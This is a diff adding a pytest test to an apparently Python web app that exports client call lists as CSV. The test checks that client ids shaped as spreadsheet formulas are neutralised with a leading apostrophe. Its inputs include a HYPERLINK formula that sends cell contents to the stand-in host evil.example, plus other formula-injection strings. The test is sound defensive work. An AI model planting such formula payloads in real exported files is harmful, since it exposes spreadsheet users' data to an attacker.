@@ -209,6 +209,20 @@ def test_a_repeated_client_is_ranked_once_on_its_last_row(deployed, tmp_path):
     assert (result.rows, result.rows_read, result.earlier_snapshots, result.left) == (3, 7, 3, 1)
 
 
+def test_a_client_id_that_would_start_a_spreadsheet_formula_is_written_as_text(deployed, tmp_path):
+    """risk_scores.csv and the page's call_list.csv download: an id from a hostile CRM export never runs as a formula,
+    as in calls.csv (riskcore.ops.calls.safe_cell); other ids are written as they are."""
+    hostile = ['"=HYPERLINK(""http://evil.example/?""&A1,""open"")"', "@SUM(1+1)", "+cmd", "-2+3", "plain"]
+    rows, _ = call_list_of(deployed, tmp_path, LABELLED, [f"{name},{i},{i * 10},{i},0" for i, name in
+                                                          enumerate(hostile, 1)])
+    expected = {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'@SUM(1+1)", "'+cmd", "'-2+3", "plain"}
+    assert {row["corporation"] for row in rows} == expected
+    shutil.copy(tmp_path / "clients.csv", deployed.final_data_file)
+    download = app_module.create_app(deployed.config_file).test_client().get("/downloads/call_list.csv")
+    assert download.status_code == 200
+    assert {row["corporation"] for row in csv.DictReader(download.get_data(as_text=True).splitlines())} == expected
+
+
 def test_unlabelled_clients_are_listed(deployed, tmp_path):
     rows, result = call_list_of(deployed, tmp_path, UNLABELLED, ["a,1,2,3", "b,40,500,60", "a,2,3,4"])
     assert sorted((row["corporation"], row["lastmonth_activity"]) for row in rows) == [("a", "2"), ("b", "40")]
